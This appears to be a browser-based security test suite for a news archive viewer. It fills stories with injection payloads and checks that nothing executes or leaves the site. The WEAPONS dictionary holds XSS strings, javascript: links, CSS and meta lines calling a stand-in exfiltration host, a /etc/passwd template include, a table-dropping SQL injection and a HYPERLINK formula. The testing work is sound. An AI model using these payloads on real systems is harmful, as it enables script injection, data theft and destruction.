"""The reading room in a real browser, over stories that want to be more than text."""

from collections.abc import Iterator
from pathlib import Path

import pytest

from archive.record import Attachment, Image, Related
from tests.reading_room.browser import chromium, serving
from tests.reading_room.newsroom import HOME, article, opened, reading

playwright = pytest.importorskip("playwright.sync_api", reason="make test-slow installs what a browser needs")
pytestmark = pytest.mark.slow

# What a newsroom, or whoever broke into it, may put where text belongs. Each that works calls alert or asks another host.
WEAPONS = {
    "script": "<script>alert(1)</script>",
    "closing": "</title></textarea></style></script><script>alert(1)</script>",
    "handler": '"><img src=x onerror=alert(1)>',
    "attribute": "' onmouseover='alert(1)' autofocus onfocus='alert(1)' x='",
    "svg": "<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
    "frame": '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    "style": "<style>@import 'http://exfiltration.example/x';*{background:url(http://exfiltration.example/y)}</style>",
    "link": '<link rel="prefetch" href="http://exfiltration.example/z"><meta http-equiv="refresh" content="0;url=http://exfiltration.example/">',
    "template": "{{ 7 * 7 }}{% include '/etc/passwd' %}${7*7}",
    "base": '<base href="http://exfiltration.example/"><form action="http://exfiltration.example/"><button autofocus>x</button></form>',
    "bidi": "Wali Kota \u202etixe\u202c dan \u2066baris\u2069 \u200f",
    "sql": "Robert'); DROP TABLE articles;--",
    "formula": '=HYPERLINK("http://exfiltration.example/","klik")',
    "marks": "⟦<img src=x onerror=alert(1)>⟧",
    "long": "A" * 1_000_000,
}
LINKS = ("javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", " \tjava\nscript:alert(1)")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An archive in which every weapon stands wherever a story has text."""
    folder = tmp_path_factory.mktemp("hostile")
    told = []
    for number, weapon in enumerate(WEAPONS.values(), 1):
        link = LINKS[number % len(LINKS)]
        told.append(
            article(
                number,
                f"{weapon} banjir",
                body=(f"Banjir {weapon} di kota.", weapon),
                section=weapon[:200],
                sections=(weapon[:200],),
                tags=(weapon[:200],),
                author=weapon[:200],
                byline=weapon[:200],
                dateline=weapon[:200],
                dateline_place=weapon[:200],
                captions=weapon[:5000],
                images=(Image(url=link, caption=weapon[:5000], alt=weapon[:200]),),
                attachments=(Attachment(url=link, label=weapon[:200]), Attachment(url=f"{HOME}{weapon[:200]}", label=None)),
                related=(Related(url=link, title=weapon[:200], printed_date=weapon[:200]),),
                translation_url=link,
            )
        )
    with opened(folder) as archive:
        archive.keep([reading(each) for each in told])
        archive.keep([reading(article(1, "Banjir surut", body=(WEAPONS["handler"],)), day=2)])  # a revision to look at
        archive.end("finished", 0, notes=[WEAPONS["script"]])
    return folder / "archive.db"


@pytest.fixture(scope="module")
def home(hostile: Path) -> Iterator[str]:
    """A real Datasette over it."""
    with serving(hostile) as address:
        yield address


class Trap:
    """A page that writes down everything that should not happen."""

    def __init__(self, page: "playwright.Page", home: str) -> None:
        self.page, self.home = page, home
        self.caught: list[str] = []
        self.refused: list[str] = []
        page.on("dialog", lambda dialog: (self.caught.append(f"dialog: {dialog.message}"), dialog.dismiss()))
        page.on("request", self._asked)
        page.on("popup", lambda popup: self.caught.append(f"window: {popup.url}"))
        page.on("console", lambda message: self.refused.append(message.text) if "Content Security Policy" in message.text else None)

    def _asked(self, request: "playwright.Request") -> None:
        if not request.url.startswith((self.home, "data:image/")):
            self.caught.append(f"request: {request.url}")

    def visit(self, path: str) -> int:
        answer = self.page.goto(self.home + path, wait_until="load")
        self.page.wait_for_timeout(50)  # what a handler or an animation does, it does after the load
        assert answer is not None
        return int(answer.status)


@pytest.fixture(scope="module")
def browser() -> Iterator["playwright.Browser"]:
    with chromium(playwright) as opened_browser:
        yield opened_browser


@pytest.fixture
def trap(browser: "playwright.Browser", home: str) -> Iterator[Trap]:
    page = browser.new_page()
    yield Trap(page, home)
    page.close()


STORIES = [f"/archive/articles/{number}" for number in range(1, len(WEAPONS) + 1)]
PAGES = [
    "/",
    "/archive",
    "/archive/articles",
    "/archive/articles?_facet=section&_facet=author&_search=banjir",
    "/archive/latest",
    "/archive/search?q=banjir",
    "/archive/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/archive/tags",
    "/archive/sections",
    "/archive/images",
    "/archive/attachments",
    "/archive/related",
    "/archive/revisions",
    "/archive/revisions/1",
    "/archive/captures",
    "/archive/crawls",
    "/archive?sql=select+title+from+articles",
    "/archive?sql=%3C/textarea%3E%3Cscript%3Ealert(1)%3C/script%3E",
    "/%3Cscript%3Ealert(1)%3C/script%3E",
    *STORIES,
]


@pytest.mark.parametrize("path", PAGES)
def test_nothing_stored_runs_or_leaves(trap: Trap, path: str) -> None:
    trap.visit(path)
    for handle in trap.page.query_selector_all("a[href]")[:200]:
        address = handle.evaluate("link => link.href")
        assert address.startswith(("http://", "https://", "mailto:", "#")), address
    assert trap.page.query_selector("iframe, object, embed, base, svg animate, meta[http-equiv=refresh]") is None
    assert trap.page.evaluate("document.querySelectorAll('[onerror],[onload],[onfocus],[onmouseover],[onbegin]').length") == 0
    assert trap.caught == []
    assert trap.refused == []  # nothing even got so far that the policy had to stop it


def test_a_weapon_that_got_into_a_page_is_stopped_by_the_policy(trap: Trap) -> None:
    trap.visit("/archive")
    trap.page.evaluate(
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)><img src=http://exfiltration.example/p>')"
    )
    trap.page.evaluate("() => { const tag = document.createElement('script'); tag.textContent = 'alert(1)'; document.body.append(tag) }")
    trap.page.wait_for_timeout(200)
    assert [each for each in trap.caught if each.startswith("dialog")] == []
    assert len(trap.refused) >= 3


def test_datasettes_own_scripts_go_on_working(trap: Trap) -> None:
    trap.visit("/archive?sql=select+id+from+articles")
    assert trap.page.query_selector(".CodeMirror") is not None
    trap.visit("/archive/articles?_facet=section")
    assert trap.page.evaluate("typeof DATASETTE_ALLOW_FACET") == "boolean"
    assert "\n".join(trap.refused) == ""


def test_text_is_shown_as_it_was_printed(trap: Trap) -> None:
    trap.visit("/archive/articles/1")
    assert WEAPONS["handler"] in trap.page.inner_text("article .body")
    trap.visit("/archive/articles/9")
    assert WEAPONS["template"] in trap.page.inner_text("article h1")
